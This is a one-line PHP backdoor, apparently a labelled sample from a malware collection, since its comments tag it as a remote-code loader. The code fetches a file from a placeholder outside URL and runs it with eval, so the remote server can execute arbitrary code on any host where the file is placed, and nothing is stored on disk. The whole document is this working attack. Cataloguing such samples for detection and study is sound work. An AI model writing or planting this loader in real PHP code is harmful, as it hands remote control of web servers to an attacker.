<?php
// Family: backdoor/remote-code
// Style: loader that runs whatever a remote URL serves
// Trait: eval of a closing tag plus the body fetched from an outside URL; nothing is stored on disk
eval('?>' . file_get_contents('https://code.example.invalid/panel.txt'));
